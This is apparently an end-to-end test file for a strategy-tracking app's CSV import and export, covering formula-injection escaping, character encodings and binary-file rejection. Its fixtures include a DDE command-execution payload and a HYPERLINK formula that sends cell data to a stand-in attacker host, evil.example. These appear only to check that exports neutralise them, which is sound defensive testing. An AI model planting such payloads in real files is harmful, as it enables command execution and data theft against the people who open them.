import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { Workbook } from 'exceljs';
import { ApiClient, createTestApp, describeE2E, TestApp } from './helpers/app';
import { StrategyBuilder } from './helpers/strategy-builder';

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[-+]?(\d+\.?\d*|\.\d+)(e[-+]?\d+)?$/i;

/** Every cell of a CSV, as a spreadsheet would read it: the header row and every record. */
const cellsOf = (csv: string): string[] => (parse(csv, { relax_column_count: true }) as string[][]).flat();

// The clock is 1 May 2026, so every quarter of 2025-26 is open for returns.
describeE2E('Spreadsheets: safe exports, encodings, binary files, printed periods, .xlsx', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp({ now: new Date('2026-05-01T09:00:00Z') });
  });
  afterAll(() => t.close());

  const importCsv = (client: ApiClient, strategyId: string, csv: string | Buffer, query = '') =>
    client.post(`/api/v1/strategies/${strategyId}/progress/import${query}`).set('Content-Type', 'text/csv').send(csv);

  describe('formula injection', () => {
    let b: StrategyBuilder;
    let lead: string;
    let officer: ApiClient;
    let ids: Record<string, string>;

    beforeAll(async () => {
      b = await new StrategyBuilder(t).init();
      const theme = await b.theme('Community safety');
      lead = await b.partnership({ name: 'Safer Wealden Partnership' });
      officer = await t.as('partnership-officer', [lead]);
      ids = {};
      for (const [code, title] of [
        ['INJ 1', '@Risky title'],
        ['INJ 2', '=cmd|" /C calc"!A0'],
        ['INJ 3', 'Plain title'],
      ]) {
        const target = await b.target({ code, title, themeId: theme, baselineValue: -10, targetValue: 0, baselinePeriod: '2024-25-Q4', targetPeriod: '2025-26-Q4' });
        await b.assign(target.id, lead);
        ids[code] = target.id;
      }
      await importCsv(
        officer,
        b.strategyId,
        stringify(
          [
            { code: 'INJ 1', period: '2025-26-Q2', value: -3.5, commentary: '=1+1', risks: '-fewer patrols', next_actions: '@SUM(A1:A2)' },
            { code: 'INJ 2', period: '2025-26-Q2', value: 7, commentary: '+44 1892 000000', risks: '=HYPERLINK("http://evil.example/?"&A1,"click")', next_actions: '-2' },
          ],
          { header: true },
        ),
      ).expect(200);
      // Text that already starts with a quote, typed through the API, must come back as typed.
      await b.submitReturn(officer, ids['INJ 3'], '2025-26-Q2', -0.25, { commentary: "'=kept as typed", risks: "'tis the season" });
    });

    const exportProgress = async () => (await b.api.get(`/api/v1/strategies/${b.strategyId}/progress.csv?period=2025-26-Q2`).expect(200)).text;

    it('writes formula-like text as inert text in progress.csv, and leaves numbers as numbers', async () => {
      const exported = exportProgress();
      const records = parse(await exported, { columns: true }) as Record<string, string>[];
      expect(records.map((r) => [r.code, r.value, r.commentary, r.risks, r.next_actions])).toEqual([
        ['INJ 1', '-3.5', "'=1+1", "'-fewer patrols", "'@SUM(A1:A2)"],
        ['INJ 2', '7', "'+44 1892 000000", '\'=HYPERLINK("http://evil.example/?"&A1,"click")', '-2'],
        ['INJ 3', '-0.25', "''=kept as typed", "'tis the season", ''],
      ]);
      expect(cellsOf(await exported).filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);
    });

    it('neutralises the return template and the targets export too', async () => {
      const template = (await officer.get(`/api/v1/partnerships/${lead}/returns/template.csv?period=2025-26-Q2`).expect(200)).text;
      const rows = parse(template, { columns: true }) as Record<string, string>[];
      expect(rows.find((r) => r.code === 'INJ 1')).toMatchObject({ title: "'@Risky title", value: '-3.5', commentary: "'=1+1" });
      expect(cellsOf(template).filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);

      const targets = (await b.api.get(`/api/v1/strategies/${b.strategyId}/targets.csv`).expect(200)).text;
      const byCode = new Map((parse(targets, { columns: true }) as Record<string, string>[]).map((r) => [r.code, r]));
      expect(byCode.get('INJ 1')).toMatchObject({ title: "'@Risky title", baseline_value: '-10' });
      expect(byCode.get('INJ 2')!.title).toBe('\'=cmd|" /C calc"!A0');
      expect(cellsOf(targets).filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);
    });

    it('round-trips: importing the export (and the template) changes nothing, and the stored text is the original', async () => {
      const exported = await exportProgress();
      const res = await importCsv(b.api, b.strategyId, exported).expect(200);
      expect(res.body).toEqual({ dryRun: false, rows: 3, created: 0, updated: 0, unchanged: 3, skipped: 0 });
      expect(await exportProgress()).toBe(exported);

      const template = (await officer.get(`/api/v1/partnerships/${lead}/returns/template.csv?period=2025-26-Q2`).expect(200)).text;
      expect((await importCsv(officer, b.strategyId, template).expect(200)).body).toMatchObject({ rows: 3, unchanged: 3 });

      const stored = (await b.api.get(`/api/v1/targets/${ids['INJ 1']}/progress?from=2025-26-Q2&to=2025-26-Q2`).expect(200)).body.items[0];
      expect(stored).toMatchObject({ value: -3.5, commentary: '=1+1', risks: '-fewer patrols', nextActions: '@SUM(A1:A2)' });
      const typed = (await b.api.get(`/api/v1/targets/${ids['INJ 3']}/progress?from=2025-26-Q2&to=2025-26-Q2`).expect(200)).body.items[0];
      expect(typed).toMatchObject({ value: -0.25, commentary: "'=kept as typed", risks: "'tis the season" });
    });
  });

  describe('CSV encodings, binary files and printed periods', () => {
    let b: StrategyBuilder;
    let officer: ApiClient;
    let ids: Record<string, string>;

    beforeAll(async () => {
      b = await new StrategyBuilder(t).init();
      const theme = await b.theme('Economy');
      const lead = await b.partnership({ name: 'Wealden Economy Partnership' });
      officer = await t.as('partnership-officer', [lead]);
      ids = {};
      for (const code of ['ENC 1', 'ENC 2', 'ENC 3']) {
        const target = await b.target({ code, themeId: theme, baselineValue: 0, targetValue: 100, baselinePeriod: '2024-25-Q4', targetPeriod: '2025-26-Q4' });
        await b.assign(target.id, lead);
        ids[code] = target.id;
      }
    });

    const stored = async (code: string, period: string) =>
      (await b.api.get(`/api/v1/targets/${ids[code]}/progress?from=${period}&to=${period}`).expect(200)).body.items[0];
    const header = 'code,period,value,commentary\r\n';

    it('stores a Windows-1252 CSV (Excel\'s "CSV (Comma delimited)") with its £ and curly quotes', async () => {
      // 0xA3 is £ and 0x93/0x94 are “ ” in Windows-1252; none of them is valid UTF-8 on its own.
      const file = Buffer.concat([Buffer.from(`${header}ENC 1,2025-26-Q1,10,`), Buffer.from([0xa3]), Buffer.from('1.2m grant '), Buffer.from([0x93]), Buffer.from('levelling up'), Buffer.from([0x94]), Buffer.from('\r\n')]);
      expect(file.includes(Buffer.from('£', 'utf8'))).toBe(false);
      await importCsv(officer, b.strategyId, file).expect(200);
      expect((await stored('ENC 1', '2025-26-Q1')).commentary).toBe('£1.2m grant “levelling up”');
      // The same bytes as a multipart file.
      const multipart = Buffer.concat([Buffer.from(`${header}ENC 1,2025-26-Q2,11,`), Buffer.from([0xa3]), Buffer.from('5k\r\n')]);
      await officer.post(`/api/v1/strategies/${b.strategyId}/progress/import`).attach('file', multipart, { filename: 'return.csv', contentType: 'text/csv' }).expect(200);
      expect((await stored('ENC 1', '2025-26-Q2')).commentary).toBe('£5k');
    });

    it('stores UTF-8 with and without a byte-order mark', async () => {
      await importCsv(officer, b.strategyId, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${header}ENC 2,2025-26-Q1,20,£2m – “café”\r\n`, 'utf8')])).expect(200);
      expect((await stored('ENC 2', '2025-26-Q1')).commentary).toBe('£2m – “café”');
      await importCsv(officer, b.strategyId, Buffer.from(`${header}ENC 2,2025-26-Q2,21,€3m\n`, 'utf8')).expect(200);
      expect((await stored('ENC 2', '2025-26-Q2')).commentary).toBe('€3m');
    });

    it('refuses a file it cannot decode, saying how to save it, and stores nothing', async () => {
      const file = Buffer.concat([Buffer.from(`${header}ENC 3,2025-26-Q1,30,`), Buffer.from([0x81, 0xa3]), Buffer.from('\r\n')]);
      const res = await importCsv(officer, b.strategyId, file).expect(400);
      expect(res.body).toMatchObject({ statusCode: 400, message: 'The file could not be read as CSV' });
      expect(res.body.errors).toEqual([{ field: 'file', message: expect.stringMatching(/: save it from your spreadsheet as "CSV UTF-8 \(Comma delimited\)"$/) }]);
      expect(await stored('ENC 3', '2025-26-Q1')).toBeUndefined();
    });

    it('answers a binary file sent as CSV with a plain message', async () => {
      const workbook = new Workbook();
      workbook.addWorksheet('Return').addRow(['code', 'period', 'value']);
      const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
      const asCsv = await importCsv(officer, b.strategyId, xlsx).expect(400);
      expect(asCsv.body.errors[0].message).toMatch(/^this looks like an Excel workbook \(\.xlsx\), not CSV: upload it as \.xlsx/);
      expect(asCsv.text).not.toMatch(/PK|\\u0003/);
      const asMultipartCsv = await officer
        .post(`/api/v1/strategies/${b.strategyId}/progress/import`)
        .attach('file', xlsx, { filename: 'return.csv', contentType: 'text/csv' })
        .expect(400);
      expect(asMultipartCsv.body.errors[0].message).toMatch(/^this looks like an Excel workbook/);
      const xls = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
      expect((await importCsv(officer, b.strategyId, xls).expect(400)).body.errors[0].message).toMatch(/^this looks like an old Excel 97-2003 workbook \(\.xls\)/);
      const nul = Buffer.from('code,period,value\nENC 3,2025-26-Q1,3\0\n');
      expect((await importCsv(officer, b.strategyId, nul).expect(400)).body.errors[0].message).toMatch(/^this is a binary file, not CSV text/);
      expect(await stored('ENC 3', '2025-26-Q1')).toBeUndefined();
    });

    it('reads periods in the printed form 2025/26 Q3, and names a bad one by row and column', async () => {
      const bad = await importCsv(officer, b.strategyId, `${header}ENC 3,2025/26 Q3,33,\r\nENC 3,2025/27 Q4,34,\r\n`).expect(422);
      expect(bad.body.errors).toEqual([
        { field: 'row 3, period', row: 3, column: 'period', message: '"2025/27 Q4" is not a valid period: the second year must follow the first (expected 2025/26 Q4 form)' },
      ]);
      expect(await stored('ENC 3', '2025-26-Q3')).toBeUndefined();
      const res = await importCsv(officer, b.strategyId, `${header}ENC 3,2025/26 Q3,33,\r\nENC 3,2025-26-Q4,34,\r\n`).expect(200);
      expect(res.body).toMatchObject({ rows: 2, created: 2 });
      expect(await stored('ENC 3', '2025-26-Q3')).toMatchObject({ period: '2025-26-Q3', value: 33 });
      // API parameters keep the code form.
      await b.api.get(`/api/v1/strategies/${b.strategyId}/progress.csv?period=${encodeURIComponent('2025/26 Q3')}`).expect(400);
    });

    it('still answers 400 to a text body sent to a JSON route', async () => {
      const res = await b.api.post('/api/v1/partnerships').set('Content-Type', 'text/plain').send('name=Wealden').expect(400);
      expect(res.body.statusCode).toBe(400);
    });
  });
});
